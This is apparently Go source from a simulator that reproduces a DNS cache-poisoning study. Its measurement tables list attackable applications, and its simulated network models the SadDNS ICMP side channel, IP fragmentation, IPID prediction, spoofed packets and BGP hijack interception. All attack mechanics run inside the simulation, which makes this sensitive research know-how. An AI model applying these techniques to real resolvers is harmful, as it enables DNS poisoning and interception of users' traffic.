	resolver.StubLookup(f.Prober, sr.Host.Addr, aliasName, dnswire.TypeA, 15*time.Second,
		func([]*dnswire.RR, error) { done = true })
	f.Net.Run()
	_ = done
	f.TestSrv.Observe = prevObserve
	return sawTargetUDP && !sawAliasTCP
}

// Table3 runs the full Table 3 reproduction: every dataset scaled to
// at most sampleCap resolvers, scanned with the three probes.
func Table3(sampleCap int, seed int64) (*stats.Table, []ResolverScanResult) {
	tbl := &stats.Table{
		Title:  "Table 3: Vulnerable resolvers",
		Header: []string{"Dataset", "Protocol", "BGP sub-prefix", "SadDNS", "Fragment", "Sampled", "Paper size"},
	}
	var results []ResolverScanResult
	for i, spec := range Table3Datasets() {
		n := spec.PaperSize
		if n > sampleCap {
			n = sampleCap
		}
		fleet := NewResolverFleet(spec, n, seed+int64(i))
		r := ScanResolverFleet(fleet)
		results = append(results, r)
		tbl.Add(spec.Name, spec.Protocols,
			stats.Pct(r.SubPrefix, r.Scanned),
			stats.Pct(r.SadDNS, r.Scanned),
			stats.Pct(r.Frag, r.Scanned),
			fmt.Sprint(r.Scanned),
			fmt.Sprint(spec.PaperSize))
	}
	return tbl, results
}
