package measure

import (
	"fmt"

	"crosslayer/internal/apps"
	"crosslayer/internal/report"
)

// Table1Row is one application row of the paper's Table 1.
type Table1Row struct {
	Category   string
	Protocol   string
	UseCase    string
	QueryName  string // "target", "known", "config"
	Trigger    string // direct / bounce / authentication / waiting / on-demand / connection DoS
	Records    string
	DNSUsedFor string // loc / fed / auth combinations
	Hijack     bool
	SadDNS     bool
	Frag       bool
	Impact     string
	// DemoName links to the runnable demonstration in internal/apps's
	// test suite / the examples.
	DemoName string
}

// Table1Rows returns the paper's application matrix. The ✓/✗ cells
// are reproduced from the paper; every Impact is demonstrated live by
// the apps test suite and the attack chains in internal/core.
func Table1Rows() []Table1Row {
	return []Table1Row{
		{"Authentication", "Radius", "Peer discovery", "target", "direct", "NAPTR, SRV, A", "loc+fed", true, true, true, "DoS: no network access", "TestRadiusDoS"},
		{"Online Chat", "XMPP", "Chat+VoIP", "target", "bounce", "A, SRV", "loc+fed", true, true, true, "Hijack: eavesdropping", "TestXMPPEavesdropping"},
		{"Email", "SMTP", "Mail", "target", "direct/bounce", "A, MX", "loc+fed", true, true, true, "Hijack: eavesdropping", "TestSMTPBounceStealsMailViaPoisonedMX"},
		{"Email", "SPF,DMARC", "Anti-Spam", "target", "authentication", "TXT", "auth", true, true, true, "Downgrade: spoofing", "TestSPFDowngradeViaPoisonedTXT"},
		{"Email", "DKIM", "Integrity Checking", "target", "direct/bounce", "TXT", "auth", true, true, true, "Downgrade: spoofing", "TestDKIMDowngrade"},
		{"Web", "HTTP", "Web sites", "target", "direct", "A", "loc", true, true, true, "Hijack: eavesdropping", "TestWebHijackPlainHTTP"},
		{"Web", "SMTP", "Password recovery", "target", "direct", "A, MX, TXT", "loc", true, true, true, "Hijack: account hijack", "TestPasswordRecoveryAccountTakeover"},
		{"Sync", "NTP", "Time synchronisation", "known", "connection DoS", "A", "loc", true, false, true, "Hijack: change time", "TestNTPTimeShift"},
		{"Crypto-currency", "Bitcoin", "Peer discovery", "known", "waiting", "A", "loc", true, false, false, "Hijack: fake blockchain", "TestBitcoinEclipse"},
		{"Tunnelling", "OpenVPN", "VPN", "config", "connection DoS", "A", "loc", true, true, true, "DoS: no VPN access", "TestVPNDoSAndOpportunisticIPsecHijack"},
		{"Tunnelling", "IKE", "VPN", "config", "connection DoS", "A", "loc", true, true, true, "DoS: no VPN access", "TestVPNDoSAndOpportunisticIPsecHijack"},
		{"Tunnelling", "IKE", "Opportunistic Enc.", "target", "bounce", "IPSECKEY", "loc+auth", true, true, true, "Hijack: eavesdropping", "TestVPNDoSAndOpportunisticIPsecHijack"},
		{"PKI", "DV", "Domain Validation", "target", "authentication", "A, MX, TXT", "loc+auth", true, false, false, "Hijack: fraud. certificate", "TestFraudulentCertificateViaPoisonedCAResolver"},
		{"PKI", "OCSP", "Revocation checking", "target", "direct", "A", "loc", true, true, true, "Downgrade: no check", "TestOCSPSoftFailDowngrade"},
		{"PKI", "RPKI", "Repository sync.", "known", "waiting", "A", "loc", true, false, false, "Downgrade: no ROV", "examples/rpki_downgrade"},
		{"Intermediate devices", "Firewall filters", "config", "config", "waiting", "A", "loc", true, true, true, "Downgrade: no filters", "TestMiddleboxTimerRefresh"},
		{"Intermediate devices", "Loadbalancers", "HTTP/...", "config", "on-demand", "A", "loc", true, true, true, "Hijack: eavesdropping", "TestMiddleboxOnDemandIsAttackerTriggerable"},
		{"Intermediate devices", "CDN's", "HTTP", "config", "on-demand", "A", "loc", true, false, true, "Hijack: eavesdropping", "TestMiddleboxOnDemandIsAttackerTriggerable"},
		{"Intermediate devices", "ANAME/ALIAS", "DNS", "config", "on-demand", "A", "loc", true, true, true, "Hijack: eavesdropping", "TestMiddleboxOnDemandIsAttackerTriggerable"},
		{"Intermediate devices", "Proxies", "HTTP/Socks", "target", "direct", "A", "loc", true, true, true, "Hijack: eavesdropping", "TestProxyTriggersQueriesOnItsResolver"},
	}
}

// Table1 builds the application matrix as a structured Report.
func Table1() *report.Report {
	rep := report.New("table1", "Table 1: applications attackable via DNS cache poisoning")
	tbl := rep.AddSection(report.Table("", "Table 1: Attacks against popular systems leveraging a poisoned DNS cache",
		report.StrCols("Category", "Protocol", "Use case", "Query name", "Trigger", "Records", "DNS use", "Hijack", "SadDNS", "Frag", "Impact")...))
	mark := func(b bool) string {
		if b {
			return "yes"
		}
		return "no"
	}
	for _, r := range Table1Rows() {
		tbl.Add(r.Category, r.Protocol, r.UseCase, r.QueryName, r.Trigger, r.Records, r.DNSUsedFor,
			mark(r.Hijack), mark(r.SadDNS), mark(r.Frag), r.Impact)
	}
	return rep
}

// Table2 builds the middlebox survey (the rows live in internal/apps
// next to the Middlebox implementation).
func Table2() *report.Report {
	rep := report.New("table2", "Table 2: middlebox query-triggering survey")
	tbl := rep.AddSection(report.Table("", "Table 2: Query triggering behaviour at middleboxes",
		report.StrCols("Type", "Provider", "Trigger query", "Caching time", "Alexa 100K sites")...))
	for _, p := range apps.Table2Profiles() {
		cache := "TTL"
		if p.CacheTime > 0 {
			cache = p.CacheTime.String()
		}
		sites := "-"
		if p.AlexaSites > 0 {
			sites = fmt.Sprint(p.AlexaSites)
		}
		tbl.Add(p.Type, p.Provider, string(p.Trigger), cache, sites)
	}
	return rep
}
