package measure_test

import (
	"go/ast"
	"go/parser"
	"go/token"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"crosslayer/internal/measure"
)

// TestTable1DemoNamesExist pins the "every Impact is demonstrated
// live" claim: each Table1Row.DemoName must name a test function that
// actually exists in internal/apps (parsed from source, so a renamed
// or deleted demo fails here), or an example program directory for
// the rows demonstrated by examples/.
func TestTable1DemoNamesExist(t *testing.T) {
	appsTests := testFuncNames(t, filepath.Join("..", "apps"))
	for _, row := range measure.Table1Rows() {
		demo := row.DemoName
		switch {
		case demo == "":
			t.Errorf("row %s/%s has no demo", row.Category, row.Protocol)
		case strings.HasPrefix(demo, "Test"):
			if !appsTests[demo] {
				t.Errorf("row %s/%s names demo %q, but internal/apps has no such test function",
					row.Category, row.Protocol, demo)
			}
		default:
			// Example-program demos are repo-relative paths.
			if fi, err := os.Stat(filepath.Join("..", "..", demo)); err != nil || !fi.IsDir() {
				t.Errorf("row %s/%s names demo %q, but no such example directory exists",
					row.Category, row.Protocol, demo)
			}
		}
	}
}

// testFuncNames parses every _test.go file in dir and returns the set
// of declared Test* function names.
func testFuncNames(t *testing.T, dir string) map[string]bool {
	t.Helper()
	fset := token.NewFileSet()
	pkgs, err := parser.ParseDir(fset, dir, func(fi os.FileInfo) bool {
		return strings.HasSuffix(fi.Name(), "_test.go")
	}, 0)
	if err != nil {
		t.Fatalf("parsing %s: %v", dir, err)
	}
	names := map[string]bool{}
	for _, pkg := range pkgs {
		for _, f := range pkg.Files {
			for _, decl := range f.Decls {
				if fd, ok := decl.(*ast.FuncDecl); ok && fd.Recv == nil &&
					strings.HasPrefix(fd.Name.Name, "Test") {
					names[fd.Name.Name] = true
				}
			}
		}
	}
	if len(names) == 0 {
		t.Fatalf("no test functions found under %s — wrong directory?", dir)
	}
	return names
}
