package netsim

import (
	"fmt"
	"math/rand"
	"net/netip"
	"time"

	"crosslayer/internal/bgp"
	"crosslayer/internal/ipfrag"
	"crosslayer/internal/packet"
)

// IPIDMode selects how a host assigns IPv4 identification values —
// the property that decides whether FragDNS is deterministic (global
// counter, paper hitrate ~20%) or probabilistic (random, ~0.1%).
type IPIDMode int8

// IPIDMode values.
const (
	// IPIDGlobalCounter is one counter shared across destinations
	// (old Linux, many embedded stacks): trivially predictable.
	IPIDGlobalCounter IPIDMode = iota
	// IPIDPerDestCounter is a per-destination counter (modern Linux):
	// predictable only to an attacker sharing the path.
	IPIDPerDestCounter
	// IPIDRandom draws every ID uniformly.
	IPIDRandom
)

// ICMPLimitMode selects the ICMP error rate-limiting architecture.
type ICMPLimitMode int8

// ICMPLimitMode values.
const (
	// ICMPLimitGlobal is the single global token bucket (unpatched
	// Linux): the SadDNS side channel.
	ICMPLimitGlobal ICMPLimitMode = iota
	// ICMPLimitPerIP rate-limits per source address (the CVE-2020-25705
	// fix): verification probes are answered independently of spoofed
	// probes, closing the side channel.
	ICMPLimitPerIP
	// ICMPLimitNone sends every error (no side channel either: the
	// verification probe is always answered).
	ICMPLimitNone
)

// HostConfig captures the per-host behaviours the measurements test.
type HostConfig struct {
	IPIDMode      IPIDMode
	ICMPLimitMode ICMPLimitMode
	// ICMPBurst/ICMPRate parameterise the token bucket; Linux defaults
	// are burst 50, 50 tokens/s.
	ICMPBurst int
	ICMPRate  float64
	// HonorPMTUD: accept ICMP Fragmentation Needed and fragment
	// subsequent UDP datagrams. Hosts that ignore PTB never fragment.
	HonorPMTUD bool
	// PMTUFloor is the lowest path MTU the host will accept from a PTB
	// (Linux: min_pmtu 552; some stacks accept down to 68).
	PMTUFloor int
	// AcceptFragments: reassemble fragmented datagrams. Resolvers
	// behind frag-dropping firewalls have this false.
	AcceptFragments bool
	// EphemeralPortRange for source-port randomisation.
	PortMin, PortMax uint16
	// RandomizePorts false models ancient resolvers with a fixed
	// source port.
	RandomizePorts bool
}

// DefaultHostConfig is an unpatched-Linux-like host: the most
// attackable configuration, matching the paper's vulnerable baseline.
func DefaultHostConfig() HostConfig {
	return HostConfig{
		IPIDMode:        IPIDGlobalCounter,
		ICMPLimitMode:   ICMPLimitGlobal,
		ICMPBurst:       50,
		ICMPRate:        1000,
		HonorPMTUD:      true,
		PMTUFloor:       552,
		AcceptFragments: true,
		PortMin:         32768,
		PortMax:         60999,
		RandomizePorts:  true,
	}
}

// Datagram is a received UDP payload with its addressing. Payload is
// only valid for the duration of the handler call: the network owns
// the buffer and may recycle it afterwards. A handler that needs the
// bytes beyond its own return must copy them (keeping the Datagram
// struct itself, e.g. to read Src/SrcPort later, is fine).
type Datagram struct {
	Src     netip.Addr
	SrcPort uint16
	Dst     netip.Addr
	DstPort uint16
	Payload []byte
}

// UDPHandler consumes datagrams delivered to a bound port.
type UDPHandler func(dg Datagram)

// ICMPHandler observes ICMP messages delivered to the host.
type ICMPHandler func(src netip.Addr, msg *packet.ICMP)

// Host is one simulated machine.
type Host struct {
	Name string
	ASN  bgp.ASN
	Addr netip.Addr
	Cfg  HostConfig

	net          *Network
	rng          *rand.Rand
	udpPorts     map[uint16]UDPHandler
	tcpPorts     map[uint16]TCPHandler
	sessionPorts map[uint16]SessionHandler
	sessions     map[sessionKey]*Session
	onICMP       ICMPHandler
	onRaw        func(*packet.IPv4)
	frag         *ipfrag.Cache
	pmtu         map[netip.Addr]int

	ipidGlobal  uint16
	ipidPerDest map[netip.Addr]uint16

	icmpBucket float64
	icmpWindow time.Duration
	icmpPerIP  map[netip.Addr]*bucketState

	// Counters.
	Sent, Received    uint64
	ICMPSent          uint64
	ICMPSuppressed    uint64
	UDPDeliveredLocal uint64

	// snap holds the post-build state restored by reset; nil until
	// Network.Snapshot runs.
	snap *hostSnap
}

type bucketState struct {
	tokens float64
	window time.Duration
}

// hostSnap is the part of a host's state that the build phase sets and
// trials may overwrite: the config (SadDNS narrows the port range per
// trial), the bound-port tables (victims deploy fresh apps per trial),
// the capture hooks, and the ICMP bucket level as built.
type hostSnap struct {
	cfg          HostConfig
	udpPorts     map[uint16]UDPHandler
	tcpPorts     map[uint16]TCPHandler
	sessionPorts map[uint16]SessionHandler
	onICMP       ICMPHandler
	onRaw        func(*packet.IPv4)
	icmpBucket   float64
}

// snapshot records the host's current config and bindings as the state
// reset returns to.
func (h *Host) snapshot() {
	s := &hostSnap{
		cfg:        h.Cfg,
		udpPorts:   make(map[uint16]UDPHandler, len(h.udpPorts)),
		onICMP:     h.onICMP,
		onRaw:      h.onRaw,
		icmpBucket: h.icmpBucket,
	}
	for p, fn := range h.udpPorts {
		s.udpPorts[p] = fn
	}
	if h.tcpPorts != nil {
		s.tcpPorts = make(map[uint16]TCPHandler, len(h.tcpPorts))
		for p, fn := range h.tcpPorts {
			s.tcpPorts[p] = fn
		}
	}
	if h.sessionPorts != nil {
		s.sessionPorts = make(map[uint16]SessionHandler, len(h.sessionPorts))
		for p, fn := range h.sessionPorts {
			s.sessionPorts[p] = fn
		}
	}
	h.snap = s
}

// reset rewinds the host to its snapshot: config and port bindings
// restored, ephemeral state (sessions, defrag cache, learned PMTUs,
// IPID counters, ICMP buckets) cleared, counters zeroed, and the random
// stream re-derived from the (already reset) clock — called in host
// creation order by Network.Reset, this draws exactly the streams a
// fresh build would.
func (h *Host) reset() {
	s := h.snap
	if s == nil {
		panic("netsim: Host.reset without Snapshot")
	}
	h.Cfg = s.cfg
	clear(h.udpPorts)
	for p, fn := range s.udpPorts {
		h.udpPorts[p] = fn
	}
	if s.tcpPorts == nil {
		h.tcpPorts = nil
	} else {
		clear(h.tcpPorts)
		for p, fn := range s.tcpPorts {
			h.tcpPorts[p] = fn
		}
	}
	if s.sessionPorts == nil {
		h.sessionPorts = nil
	} else {
		clear(h.sessionPorts)
		for p, fn := range s.sessionPorts {
			h.sessionPorts[p] = fn
		}
	}
	h.sessions = nil
	h.onICMP = s.onICMP
	h.onRaw = s.onRaw
	h.frag.Reset()
	clear(h.pmtu)
	clear(h.ipidPerDest)
	clear(h.icmpPerIP)
	h.icmpBucket = s.icmpBucket
	h.icmpWindow = 0
	h.Sent, h.Received = 0, 0
	h.ICMPSent, h.ICMPSuppressed = 0, 0
	h.UDPDeliveredLocal = 0
	h.rng = h.net.Clock.NewRand()
	h.ipidGlobal = uint16(h.rng.Uint32())
}

func newHost(n *Network, name string, asn bgp.ASN, addr netip.Addr) *Host {
	cfg := DefaultHostConfig()
	h := &Host{
		Name:        name,
		ASN:         asn,
		Addr:        addr,
		Cfg:         cfg,
		net:         n,
		rng:         n.Clock.NewRand(),
		udpPorts:    make(map[uint16]UDPHandler),
		frag:        ipfrag.New(0, 0),
		pmtu:        make(map[netip.Addr]int),
		ipidPerDest: make(map[netip.Addr]uint16),
		icmpBucket:  float64(cfg.ICMPBurst),
		icmpPerIP:   make(map[netip.Addr]*bucketState),
	}
	h.ipidGlobal = uint16(h.rng.Uint32())
	return h
}

// Rand returns the host's deterministic random stream.
func (h *Host) Rand() *rand.Rand { return h.rng }

// Network returns the network the host is attached to.
func (h *Host) Network() *Network { return h.net }

// FragCache exposes the host's defragmentation cache (tests observe
// planted fragments through it).
func (h *Host) FragCache() *ipfrag.Cache { return h.frag }

// --- socket API ---

// BindUDP installs a handler for a UDP port. Binding port 0 picks an
// ephemeral port per the host's configuration and returns it.
func (h *Host) BindUDP(port uint16, fn UDPHandler) uint16 {
	if port == 0 {
		port = h.EphemeralPort()
		for h.udpPorts[port] != nil {
			port = h.EphemeralPort()
		}
	}
	h.udpPorts[port] = fn
	return port
}

// CloseUDP releases a bound port.
func (h *Host) CloseUDP(port uint16) { delete(h.udpPorts, port) }

// PortOpen reports whether a UDP port is bound (ground truth the
// SadDNS scan tries to infer remotely).
func (h *Host) PortOpen(port uint16) bool { return h.udpPorts[port] != nil }

// OpenPorts returns the number of bound UDP ports.
func (h *Host) OpenPorts() int { return len(h.udpPorts) }

// EphemeralPort draws a source port from the configured range; with
// RandomizePorts off the lowest port of the range is always used.
func (h *Host) EphemeralPort() uint16 {
	if !h.Cfg.RandomizePorts {
		return h.Cfg.PortMin
	}
	span := int(h.Cfg.PortMax) - int(h.Cfg.PortMin) + 1
	return h.Cfg.PortMin + uint16(h.rng.Intn(span))
}

// OnICMP installs an observer for ICMP messages addressed to the host.
func (h *Host) OnICMP(fn ICMPHandler) { h.onICMP = fn }

// OnRaw installs a packet-capture observer seeing every IP packet the
// host receives, headers included (tcpdump on the measurement probe:
// how the IPID experiments of §5.2.2 read identification values).
func (h *Host) OnRaw(fn func(*packet.IPv4)) { h.onRaw = fn }

// --- send paths ---

// NextIPID returns the identification value for a datagram to dst,
// advancing the relevant counter.
func (h *Host) NextIPID(dst netip.Addr) uint16 {
	switch h.Cfg.IPIDMode {
	case IPIDGlobalCounter:
		h.ipidGlobal++
		return h.ipidGlobal
	case IPIDPerDestCounter:
		h.ipidPerDest[dst]++
		return h.ipidPerDest[dst]
	default:
		return uint16(h.rng.Uint32())
	}
}

// PeekIPID returns the next identification value without consuming it
// (used by measurement probes that infer counter behaviour).
func (h *Host) PeekIPID(dst netip.Addr) uint16 {
	switch h.Cfg.IPIDMode {
	case IPIDGlobalCounter:
		return h.ipidGlobal + 1
	case IPIDPerDestCounter:
		return h.ipidPerDest[dst] + 1
	default:
		return 0
	}
}

// PMTUTo returns the path MTU the host currently believes applies
// toward dst (learned from PTB messages; default 1500).
func (h *Host) PMTUTo(dst netip.Addr) int {
	if m, ok := h.pmtu[dst]; ok {
		return m
	}
	return 1500
}

// SetPMTU pins the path MTU toward dst — how an operator-controlled
// test nameserver "always emits fragmented responses padded to a
// certain size" (§5.1.2) without waiting for PTB messages.
func (h *Host) SetPMTU(dst netip.Addr, mtu int) { h.pmtu[dst] = mtu }

// SendUDP sends a UDP datagram from the host's own address.
func (h *Host) SendUDP(srcPort uint16, dst netip.Addr, dstPort uint16, payload []byte) {
	h.SendUDPSpoofed(h.Addr, srcPort, dst, dstPort, payload)
}

// SendUDPSpoofed sends a UDP datagram with an arbitrary source address
// (delivery subject to the AS's egress filtering). The datagram is
// fragmented if it exceeds the learned path MTU. payload is serialized
// into a pooled buffer before this returns, so the caller may
// immediately reuse it — the SadDNS flood patches one buffer's TXID
// between calls and depends on exactly this.
func (h *Host) SendUDPSpoofed(src netip.Addr, srcPort uint16, dst netip.Addr, dstPort uint16, payload []byte) {
	u := packet.UDP{SrcPort: srcPort, DstPort: dstPort, Payload: payload}
	wire, err := u.Serialize(h.net.wirep.Get(packet.UDPHeaderLen+len(payload)), src, dst)
	if err != nil {
		panic(fmt.Sprintf("netsim: udp serialize: %v", err))
	}
	ip := packet.IPv4{ID: h.NextIPID(dst), TTL: 64, Protocol: packet.ProtoUDP, Src: src, Dst: dst, Payload: wire}
	h.sendMaybeFragmented(&ip, true)
}

// sendMaybeFragmented forwards ip whole when it fits the learned path
// MTU and as fragments otherwise. owned marks ip.Payload as taken from
// the network's wire pool (see Network.send). Fragments alias the
// parent payload, so they are always sent unowned (copied) and the
// parent buffer is recycled afterwards.
func (h *Host) sendMaybeFragmented(ip *packet.IPv4, owned bool) {
	mtu := h.PMTUTo(ip.Dst)
	if ip.TotalLen() <= mtu {
		h.net.send(h, ip, owned)
		return
	}
	frags, err := ip.Fragment(mtu)
	if err != nil {
		// DF set and over MTU: the packet is dropped at origin (a PTB
		// would come back from a router in reality; sending hosts know
		// their own PMTU already).
		h.net.Dropped++
		if owned {
			h.net.wirep.Put(ip.Payload)
		}
		return
	}
	for _, f := range frags {
		h.net.send(h, f, false)
	}
	if owned {
		h.net.wirep.Put(ip.Payload)
	}
}

// SendRawIP injects an arbitrary pre-built IPv4 packet (the attacker's
// raw socket: spoofed fragments, crafted ICMP, anything). The payload
// is copied before this returns.
func (h *Host) SendRawIP(ip *packet.IPv4) { h.net.Send(h, ip) }

// SendICMP sends an ICMP message from the host's own address.
func (h *Host) SendICMP(dst netip.Addr, msg *packet.ICMP) {
	h.SendICMPSpoofed(h.Addr, dst, msg)
}

// SendICMPSpoofed sends an ICMP message with an arbitrary source.
func (h *Host) SendICMPSpoofed(src, dst netip.Addr, msg *packet.ICMP) {
	wire, err := msg.Serialize(h.net.wirep.Get(packet.ICMPHeaderLen + len(msg.Payload)))
	if err != nil {
		panic(fmt.Sprintf("netsim: icmp serialize: %v", err))
	}
	ip := packet.IPv4{ID: h.NextIPID(dst), TTL: 64, Protocol: packet.ProtoICMP, Src: src, Dst: dst, Payload: wire}
	h.net.send(h, &ip, true)
}

// Ping sends an ICMP echo request.
func (h *Host) Ping(dst netip.Addr, id, seq uint16) {
	h.SendICMP(dst, &packet.ICMP{Type: packet.ICMPTypeEcho, ID: id, Seq: seq, Payload: []byte("ping")})
}

// --- receive path ---

func (h *Host) receive(ip *packet.IPv4) {
	h.Received++
	if h.onRaw != nil {
		h.onRaw(ip)
	}
	if ip.IsFragment() {
		if !h.Cfg.AcceptFragments {
			return
		}
		ip = h.frag.Insert(ip, h.net.Clock.Now())
		if ip == nil {
			return
		}
	}
	switch ip.Protocol {
	case packet.ProtoUDP:
		h.receiveUDP(ip)
	case packet.ProtoICMP:
		h.receiveICMP(ip)
	}
}

func (h *Host) receiveUDP(ip *packet.IPv4) {
	var u packet.UDP
	if err := packet.DecodeUDPInto(&u, ip.Payload, ip.Src, ip.Dst, true); err != nil {
		return // bad checksum: silently dropped, like real stacks
	}
	handler := h.udpPorts[u.DstPort]
	if handler == nil {
		h.maybeSendPortUnreachable(ip)
		return
	}
	h.UDPDeliveredLocal++
	handler(Datagram{Src: ip.Src, SrcPort: u.SrcPort, Dst: ip.Dst, DstPort: u.DstPort, Payload: u.Payload})
}

func (h *Host) receiveICMP(ip *packet.IPv4) {
	msg, err := packet.DecodeICMP(ip.Payload)
	if err != nil {
		return
	}
	switch {
	case msg.Type == packet.ICMPTypeEcho:
		h.SendICMP(ip.Src, &packet.ICMP{Type: packet.ICMPTypeEchoReply, ID: msg.ID, Seq: msg.Seq, Payload: msg.Payload})
	case msg.IsFragNeeded():
		if !h.Cfg.HonorPMTUD {
			return
		}
		// The quoted datagram tells us which destination path shrank.
		quoted, err := packet.DecodeIPv4(msg.Payload)
		if err != nil || quoted.Src != h.Addr {
			return // not about a packet we sent
		}
		mtu := int(msg.MTU)
		if mtu < h.Cfg.PMTUFloor {
			mtu = h.Cfg.PMTUFloor
		}
		if mtu < h.PMTUTo(quoted.Dst) {
			h.pmtu[quoted.Dst] = mtu
		}
	}
	if h.onICMP != nil {
		h.onICMP(ip.Src, msg)
	}
}

// maybeSendPortUnreachable generates the ICMP error for a closed UDP
// port, subject to the host's rate-limit architecture. This is the
// SadDNS oracle.
func (h *Host) maybeSendPortUnreachable(ip *packet.IPv4) {
	if !h.takeICMPToken(ip.Src) {
		h.ICMPSuppressed++
		return
	}
	quote, err := packet.QuoteDatagram(ip)
	if err != nil {
		return
	}
	h.ICMPSent++
	h.SendICMP(ip.Src, &packet.ICMP{
		Type: packet.ICMPTypeDestUnreach, Code: packet.ICMPCodePortUnreach, Payload: quote,
	})
}

// ICMPWindow returns the length of one rate-limit window: the bucket
// holds ICMPBurst tokens and refills in full every burst/rate seconds
// (Linux: burst 50, 1000 msgs/s ⇒ 50ms windows — the granularity the
// SadDNS scan clocks itself to).
func (h *Host) ICMPWindow() time.Duration {
	if h.Cfg.ICMPRate <= 0 || h.Cfg.ICMPBurst <= 0 {
		return time.Second
	}
	return time.Duration(float64(h.Cfg.ICMPBurst) / h.Cfg.ICMPRate * float64(time.Second))
}

// takeICMPToken implements the global ICMP error quota ("the
// operating systems have a constant, global limit of how many ICMP
// port unreachable messages they will return", §3.2): the bucket holds
// ICMPBurst tokens and is reset at every window boundary. Within one
// window, exhausting the quota with spoofed probes makes the host
// silent to everyone — the side channel.
func (h *Host) takeICMPToken(src netip.Addr) bool {
	window := h.net.Clock.Now() / h.ICMPWindow()
	switch h.Cfg.ICMPLimitMode {
	case ICMPLimitNone:
		return true
	case ICMPLimitPerIP:
		b := h.icmpPerIP[src]
		if b == nil {
			b = &bucketState{tokens: float64(h.Cfg.ICMPBurst), window: window}
			h.icmpPerIP[src] = b
		}
		if window > b.window {
			b.tokens = float64(h.Cfg.ICMPBurst)
			b.window = window
		}
		if b.tokens >= 1 {
			b.tokens--
			return true
		}
		return false
	default: // global
		if window > h.icmpWindow {
			h.icmpBucket = float64(h.Cfg.ICMPBurst)
			h.icmpWindow = window
		}
		if h.icmpBucket >= 1 {
			h.icmpBucket--
			return true
		}
		return false
	}
}
