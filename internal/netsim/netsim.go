// Package netsim is a packet-level Internet simulator: hosts with
// IPv4/UDP/ICMP stacks attached to autonomous systems, forwarding
// decided by a BGP RIB (so prefix hijacks divert real packets), source
// spoofing subject to per-AS egress filtering, link latency on a
// virtual clock, and per-host Linux-like behaviours the paper's
// attacks exploit: the global ICMP rate-limit side channel, IP
// defragmentation caches, IPID assignment modes, and path-MTU
// learning from ICMP Fragmentation Needed.
package netsim

import (
	"fmt"
	"math/rand"
	"net/netip"
	"time"

	"crosslayer/internal/bgp"
	"crosslayer/internal/packet"
	"crosslayer/internal/pool"
	"crosslayer/internal/sim"
)

// Network ties hosts, ASes and routing together.
type Network struct {
	Clock *sim.Clock
	RIB   *bgp.RIB
	Topo  *bgp.Topology

	hosts map[netip.Addr]*Host
	// hostOrder lists hosts in creation order — the replay order
	// Reset uses to re-derive per-host random streams exactly as a
	// fresh build would.
	hostOrder []*Host
	asHosts   map[bgp.ASN][]*Host
	asInfo    map[bgp.ASN]*ASInfo
	// asSnaps holds each AS's snapshotted per-AS configuration
	// (egress filtering, access latency), restored by Reset so a
	// trial that sampled or mutated AS state rewinds like everything
	// else.
	asSnaps map[bgp.ASN]asSnap
	latency time.Duration
	// wirep recycles packet payload buffers; it defaults to a
	// per-network pool and can be replaced with a shared per-worker
	// arena via SetWirePool. delivp recycles in-flight delivery
	// nodes the same way (private by default, shareable via
	// SetDeliveryPool). Both are single-goroutine by the same argument
	// as the clock: all traffic of one simulation runs on one
	// goroutine.
	wirep    *pool.Wire
	ownWire  pool.Wire
	delivp   *DeliveryPool
	ownDeliv DeliveryPool
	// lossRate drops each sent packet independently with this
	// probability (failure injection; 0 = lossless). TCP exchanges are
	// unaffected (the abstraction models a reliable transport).
	lossRate float64
	lossRng  *rand.Rand
	// secureBlocked records (client, server) pairs whose encrypted
	// session handshakes an active attacker disrupts (BlockSecure) —
	// the downgrade lever against opportunistic encryption.
	secureBlocked map[[2]netip.Addr]bool
	// Trace, when non-nil, observes every delivered packet; the
	// example programs use it to print Figure 1/2-style sequences.
	Trace func(ev TraceEvent)

	// Counters.
	Delivered uint64
	Dropped   uint64
}

// ASInfo carries per-AS simulator state.
type ASInfo struct {
	ASN bgp.ASN
	// EgressFiltering drops packets whose source address does not
	// belong to the sending host (BCP 38). Per the paper ~70% of
	// networks enforce it; attackers operate from the ~30% that do not.
	EgressFiltering bool
	// AccessLatency is the one-way latency contribution of this AS's
	// access links; 0 means half the network base latency. A packet
	// between two ASes takes the sum of both contributions, so an AS
	// sitting on the carrier backbone (small AccessLatency) reaches
	// everyone faster than a stub behind a default access link — the
	// timing edge an attacker gains by operating from a carrier AS
	// instead of a stub.
	AccessLatency time.Duration
	// Interceptor receives packets routed to this AS for addresses no
	// local host owns — the attacker's view after a successful hijack.
	Interceptor func(ip *packet.IPv4)
	// TCPInterceptor lets a hijacker terminate TCP exchanges for
	// hijacked addresses (e.g. to serve a fake HTTP page after
	// diverting a prefix).
	TCPInterceptor func(src, dst netip.Addr, port uint16, req []byte) []byte
}

// TraceEvent describes one packet delivery.
type TraceEvent struct {
	At       time.Duration
	From, To netip.Addr
	Proto    uint8
	// Size is the transport payload length in bytes (the IP payload:
	// UDP/TCP header plus data) — enough for trace consumers to tell
	// tiny side-channel probes from full DNS responses.
	Size      int
	Info      string
	Intercept bool
}

// New creates a network over the given topology and RIB.
func New(clock *sim.Clock, topo *bgp.Topology, rib *bgp.RIB) *Network {
	n := &Network{
		Clock:   clock,
		RIB:     rib,
		Topo:    topo,
		hosts:   make(map[netip.Addr]*Host),
		asHosts: make(map[bgp.ASN][]*Host),
		asInfo:  make(map[bgp.ASN]*ASInfo),
		latency: 10 * time.Millisecond,
	}
	n.wirep = &n.ownWire
	n.delivp = &n.ownDeliv
	return n
}

// DeliveryPool is a freelist of in-flight delivery nodes that can be
// shared across networks, so the nodes warmed up by one simulation are
// reused by the next (the flood bursts the paper's attacks generate
// park thousands of deliveries in the queue at once — a cold freelist
// allocates every one of them). Single-goroutine, like pool.Wire.
type DeliveryPool struct {
	free []*delivery
}

// Retained reports how many delivery nodes the pool currently holds.
func (p *DeliveryPool) Retained() int { return len(p.free) }

// Trim drops pooled delivery nodes until at most max remain — the
// retention bound a resident process applies between jobs, mirroring
// pool.Wire.Trim. Nodes are uniform-sized, so a plain truncation is
// the whole policy. Trim(0) empties the pool; it never affects
// correctness, only what the next simulation must re-allocate.
func (p *DeliveryPool) Trim(max int) {
	if max < 0 {
		max = 0
	}
	for i := max; i < len(p.free); i++ {
		p.free[i] = nil
	}
	if len(p.free) > max {
		p.free = p.free[:max]
	}
}

// SetDeliveryPool replaces the network's private delivery freelist
// with a caller-owned one. A nil pool is ignored. Like SetWirePool,
// the pool must only be used by the goroutine running this simulation,
// and pooling changes where nodes live, never what packets say.
func (n *Network) SetDeliveryPool(p *DeliveryPool) {
	if p != nil {
		n.delivp = p
	}
}

